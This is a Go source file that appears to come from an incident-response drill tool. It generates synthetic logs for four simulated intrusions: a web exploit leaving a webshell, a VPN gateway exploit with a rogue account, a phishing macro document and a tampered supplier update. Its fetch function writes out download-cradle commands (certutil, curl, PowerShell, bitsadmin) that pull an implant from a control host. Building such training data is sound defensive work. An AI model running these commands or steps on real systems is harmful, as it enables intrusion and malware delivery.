package intrusion

import (
	"fmt"
	"time"

	"github.com/contrail-ir/contrail/drill/scene"
	"github.com/contrail-ir/contrail/drill/textwrite"
)

// enter plays the way in. Afterwards a shell is open on a host.
func (t *story) enter() {
	switch t.Scenario {
	case WebExploit:
		t.enterWeb()
	case VPNAppliance:
		t.enterGateway()
	case SpearPhish:
		t.enterLetter()
	case Supplier:
		t.enterSupplier()
	}
}

func (t *story) enterWeb() {
	h, w := t.Web, t.Web.Server
	t.host, t.shell = h, w
	ask := func(at time.Time, path, query string) []*scene.Entry {
		return t.Visit(at, h, textwrite.Request{Method: "POST", Path: path, Query: query, Agent: t.Kit.Agent, Status: 200, Bytes: int64(300 + t.r.IntN(4000))}, scene.Peer(t.Kit.From, "", uint16(30000+t.r.IntN(30000))))
	}
	a := t.act("exploit", h, "T1190", "initial-access", "A hole in the booking site is used to run a command")
	a.Note(ask(t.now.Add(-300*time.Millisecond), t.Hole.Path, t.Hole.Query)...)
	_, ran := t.do(t.now, w, `whoami`)
	a.Note(ran...)

	t.pause()
	page := `C:\inetpub\wwwroot\booking\content\` + t.Kit.Page
	a = t.act("webshell", h, "T1505.003", "persistence", "A page that runs commands is left in the booking site", "exploit")
	a.Note(ask(t.now.Add(-300*time.Millisecond), t.Hole.Path, t.Hole.Query)...)
	a.Note(t.Create(t.now, w, page))
	a.Note(ask(t.now.Add(20*time.Second), "/booking/content/"+t.Kit.Page, "")...)
	t.Indicator("path", page)
	t.fetch("webshell")
}

// fetch brings the implant to the host in the hand's way, under the shell that is open.
func (t *story) fetch(cause string) {
	h, path := t.host, t.implantPath(t.host)
	t.pause()
	url := "http://" + t.Kit.Control + t.Kit.URI
	line := map[string]string{
		"certutil":   `certutil -urlcache -split -f ` + url + ` ` + path,
		"curl":       `curl -s -o ` + path + ` ` + url,
		"powershell": `powershell -c (New-Object Net.WebClient).DownloadFile('` + url + `','` + path + `')`,
		"bitsadmin":  `bitsadmin /transfer j` + fmt.Sprint(t.r.IntN(900)) + ` /download /priority high ` + url + ` ` + path,
	}[t.Hand.Fetch]
	a := t.act("fetch", h, "T1105", "command-and-control", "The implant is fetched with a tool that is on every host", cause)
	p, ran := t.do(t.now, t.shell, line)
	a.Note(ran...)
	a.Note(t.Resolve(t.now.Add(300*time.Millisecond), p, t.Kit.Control, "::ffff:"+t.Kit.ControlIP+";"),
		t.Talk(p, scene.Flow{At: t.now.Add(400 * time.Millisecond), From: h.Here(), To: scene.Peer(t.Kit.ControlIP, t.Kit.Control, 80), Method: "GET", URI: t.Kit.URI, Agent: fetchAgent[t.Hand.Fetch],
			Mime: "application/x-dosexec", File: t.Kit.File, In: int64(len(t.Content(t.Kit.File))), Out: 320}),
		t.Create(t.now.Add(900*time.Millisecond), p, path))
	t.source = "fetch"
}

var fetchAgent = map[string]string{"certutil": "Microsoft-CryptoAPI/10.0", "curl": "curl/8.0.1", "powershell": "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1", "bitsadmin": "Microsoft BITS/7.8"}

// enterGateway: the gateway is made to run commands, an account is made on it, and through its tunnel the
// administrator's password, read from the gateway's memory, opens the application server.
func (t *story) enterGateway() {
	from, inside := t.Kit.From, fmt.Sprintf("%s.%d", t.Network.Desks, 241+t.r.IntN(9))
	a := t.act("gateway-exploit", t.Gateway, "T1190", "initial-access", "The remote access gateway is made to run commands from the internet")
	source := textwrite.Bare("remip", from)
	a.Note(t.GatewayEvent(t.now.Add(-2*time.Second), "0101039427", "vpn", "ssl-exit-error", "information", "SSL VPN exit error", textwrite.Quoted("tunneltype", "ssl-web"), source, textwrite.Quoted("user", "N/A"), textwrite.Quoted("reason", "DH lib"), textwrite.Quoted("msg", "SSL exit error")),
		t.GatewayEvent(t.now, "0100032546", "system", "crash", "warning", "Application crashed", source, textwrite.Quoted("msg", t.Hole.Crash)))
	t.pause()
	a = t.act("gateway-account", t.Gateway, "T1136.001", "persistence", "An account is made on the gateway and let into the tunnel", "gateway-exploit")
	for i, path := range []string{"user.local", "user.group"} {
		a.Note(t.GatewayEvent(t.now.Add(time.Duration(i)*6*time.Second), "0100044547", "system", "Add", "information", "Object attribute configured", textwrite.Quoted("user", t.Kit.Account), textwrite.Quoted("ui", "jsconsole"), source,
			textwrite.Quoted("cfgpath", path), textwrite.Quoted("cfgobj", t.Kit.Account), textwrite.Quoted("msg", "Add "+path+" "+t.Kit.Account)))
	}
	t.Indicator("account", t.Kit.Account)
	t.rest()
	a = t.act("tunnel", t.Gateway, "T1133", "initial-access", "The intruder comes in through the tunnel with that account", "gateway-account")
	a.Note(t.Tunnel(t.now, t.Kit.Account, from, inside, 3*time.Hour, 40_000_000, 9_000_000)...)
	t.pause()
	h := t.App
	t.host = h
	desk := scene.Peer(inside, "", uint16(49152+t.r.IntN(16000)))
	a = t.act("tunnel-logon", h, "T1078.002", "initial-access", "The administrator's account logs on to the application server from the tunnel", "tunnel")
	se := h.Session(t.Administrator(), 10)
	for _, e := range t.Logon(t.now, se, desk, h.Name) {
		a.Note(e.Joins("tunnel:" + inside))
	}
	a.Note(t.Remote(t.now, se, inside)...)
	for _, e := range t.Flow(scene.Flow{At: t.now.Add(-time.Second), From: desk, To: scene.Peer(h.IP, h.FQDN(), 3389), Out: 3_000_000, In: 19_000_000, Last: 50 * time.Minute}) {
		a.Note(e.Joins("tunnel:" + inside))
	}
	p, ran := t.Run(t.now.Add(4*time.Second), h.Svchost, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, se)
	a.Note(ran...)
	t.shell = p
	t.fetch("tunnel-logon")
}

// enterLetter: an agent opens what a letter brought.
func (t *story) enterLetter() {
	h := t.Desks[t.r.IntN(len(t.Desks))]
	t.host = h
	se := h.Explorer.Session
	name := t.Kit.Lure + ".docm"
	office := `C:\Program Files\Microsoft Office\root\Office16\`
	a := t.act("letter", t.Mail, "T1566.001", "initial-access", "A letter with a document reaches a reservation agent")
	a.Note(t.MailDelivered(t.now.Add(-9*time.Minute), t.Kit.Sender, se.Account.Name+"@"+t.Org.Domain, t.Kit.From, name))
	t.Indicator("sender", t.Kit.Sender)
	outlook, ran := t.Run(t.now.Add(-2*time.Minute), h.Explorer, office+"OUTLOOK.EXE", `"`+office+`OUTLOOK.EXE"`, se)
	path := fmt.Sprintf(`C:\Users\%s\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\%08X\%s`, se.Account.Name, t.r.Uint32(), name)
	a = t.act("document", h, "T1204.002", "execution", "The agent opens the document, which starts a program", "letter")
	a.Note(ran...)
	a.Note(t.Create(t.now, outlook, path).Joins("attachment:" + name))
	word, ran := t.Run(t.now.Add(2*time.Second), outlook, office+"WINWORD.EXE", `"`+office+`WINWORD.EXE" /n "`+path+`"`, se)
	a.Note(ran...)
	t.shell = word
	t.folder[h] = fmt.Sprintf(`C:\Users\%s\AppData\Roaming\%s\`, se.Account.Name, t.Kit.Folder)
	t.fetch("document")
}

// enterSupplier: the update of the supplier's support agent brings the implant.
func (t *story) enterSupplier() {
	h := t.App
	t.host = h
	agent := h.Resident(t.Hole.Folder+"agent.exe", `"`+t.Hole.Folder+`agent.exe" --service`, h.Session(scene.System, 5))
	a := t.act("update", h, "T1195.002", "initial-access", "The supplier's support agent takes an update that the supplier did not make")
	a.Note(t.Resolve(t.now, agent, t.Hole.Domain, "::ffff:"+t.Hole.Address+";"),
		t.Talk(agent, scene.Flow{At: t.now.Add(60 * time.Millisecond), From: h.Here(), To: scene.Peer(t.Hole.Address, t.Hole.Domain, 80), Method: "GET", URI: "/agent/plugins/" + t.Kit.Folder + ".cab", Agent: "SupportAgent/5.2",
			Mime: "application/vnd.ms-cab-compressed", File: t.Kit.Folder + ".cab", In: 512_000, Out: 410}),
		t.Create(t.now.Add(2*time.Second), agent, t.Hole.Folder+`plugins\`+t.Kit.Folder+`.exe`))
	p, ran := t.Run(t.now.Add(9*time.Second), agent, t.Hole.Folder+`plugins\`+t.Kit.Folder+`.exe`, `"`+t.Hole.Folder+`plugins\`+t.Kit.Folder+`.exe" --install`, agent.Session)
	a.Note(ran...)
	t.shell = p
	t.Indicator("path", t.Hole.Folder+`plugins\`+t.Kit.Folder+`.exe`)
	t.fetch("update")
}
